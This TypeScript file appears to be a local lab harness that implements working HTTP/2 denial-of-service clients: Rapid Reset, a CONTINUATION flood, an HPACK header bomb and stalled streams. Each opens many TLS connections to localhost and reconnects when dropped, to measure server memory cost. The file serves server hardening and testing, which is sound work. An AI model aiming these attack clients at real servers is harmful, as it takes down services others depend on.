// SPDX-License-Identifier: Apache-2.0
// HTTP/2 clients that cost a server more memory than themselves. Each writes its frames by hand, reads nothing it has to
// understand, and comes again when it is thrown out.
import type { Socket } from "node:net";
import { connect } from "node:tls";
import { continuation, flags, headers, preface, rstStream, settings } from "../../test/support/h2_frames.ts";
import { encode, firstDynamicIndex, indexed, literal } from "../../test/support/hpack.ts";
import { LARGE_FILE, SMALL_FILE } from "./lab.ts";

const STREAMS = 100; // what servers allow at once, give or take
const FRAME_BYTES = 16_000;
const BOMB_REFERENCES = 8_000;
const RETRY_MS = 100;

export interface Attack {
  readonly name: string;
  readonly connections: number;
  // What one connection sends, piece by piece; a generator without an end goes on until the server ends it.
  frames(): Generator<Buffer>;
}

function request(path: string): Buffer {
  return encode([
    [":method", "GET"],
    [":scheme", "https"],
    [":authority", "localhost"],
    [":path", path],
  ]);
}

const streamIds = (count: number) => Array.from({ length: count }, (_, index) => 2 * index + 1);
const noWindows = () => settings({ initialWindowSize: 0 });

// CVE-2023-44487: a stream costs the server a request, the client two small frames.
function* rapidReset(): Generator<Buffer> {
  const block = request(SMALL_FILE.path);
  yield settings({});
  for (let stream = 1; stream < 2 ** 31; stream += 2 * STREAMS) {
    const pairs = streamIds(STREAMS).map((id) => [
      headers(stream + id - 1, block),
      rstStream(stream + id - 1),
    ]);
    yield Buffer.concat(pairs.flat());
  }
}

// CVE-2024-27316: a head that never ends.
function* continuationFlood(): Generator<Buffer> {
  yield Buffer.concat([settings({}), headers(1, request(SMALL_FILE.path), flags.endStream)]);
  const fields = encode(
    Array.from({ length: FRAME_BYTES / 40 }, (_, index) => [`x-${index}`, "x".repeat(30)]),
  );
  for (;;) yield continuation(1, fields.subarray(0, FRAME_BYTES));
}

// References of one octet to a field without a value, so that no limit of bytes is near, on streams that stay open
// because their responses may not be sent.
function* headerBomb(): Generator<Buffer> {
  yield noWindows();
  const references = Buffer.alloc(BOMB_REFERENCES, indexed(firstDynamicIndex));
  for (const stream of streamIds(STREAMS)) {
    const entry = stream === 1 ? [literal("x", "", "add")] : [];
    yield headers(stream, Buffer.concat([request(SMALL_FILE.path), ...entry, references]));
  }
}

// Responses that are asked for and may not be sent.
function* stalledStreams(): Generator<Buffer> {
  yield noWindows();
  const block = request(LARGE_FILE.path);
  yield Buffer.concat(streamIds(STREAMS).map((stream) => headers(stream, block)));
}

export const ATTACKS: readonly Attack[] = [
  { name: "Rapid Reset, 20 connections", connections: 20, frames: rapidReset },
  { name: "CONTINUATION flood, 20 connections", connections: 20, frames: continuationFlood },
  { name: "HPACK bomb, closed windows, 20 connections", connections: 20, frames: headerBomb },
  { name: "10,000 stalled streams, 100 connections", connections: 100, frames: stalledStreams },
];

// Sends on as the server reads: what piles up here would be measured as the attacker's patience. One piece a turn of
// the event loop, or a server that reads everything at once would keep the clock of the measurement from running.
function send(socket: Socket, frames: Generator<Buffer>): void {
  const { value, done } = frames.next();
  if (done === true || socket.destroyed) return;
  const goOn = () => send(socket, frames);
  if (socket.write(value)) setImmediate(goOn);
  else socket.once("drain", goOn);
}

// Answers how often a connection was ended by the server, and a way to stop.
export function launchAttack(attack: Attack, port: number) {
  const sockets = new Set<Socket>();
  let ended = 0;
  let stopped = false;

  function open(): void {
    if (stopped) return;
    const socket = connect({
      port,
      host: "127.0.0.1",
      servername: "localhost",
      rejectUnauthorized: false,
      ALPNProtocols: ["h2"],
    });
    sockets.add(socket);
    socket.on("error", () => socket.destroy());
    socket.once("secureConnect", () => {
      socket.write(preface);
      send(socket, attack.frames());
    });
    socket.on("end", () => socket.destroy()).resume();
    socket.once("close", () => {
      sockets.delete(socket);
      if (stopped) return;
      ended += 1;
      setTimeout(open, RETRY_MS);
    });
  }

  for (let count = 0; count < attack.connections; count++) open();
  return {
    ended: () => ended,
    stop: () => {
      stopped = true;
      for (const socket of sockets) socket.destroy();
    },
  };
}
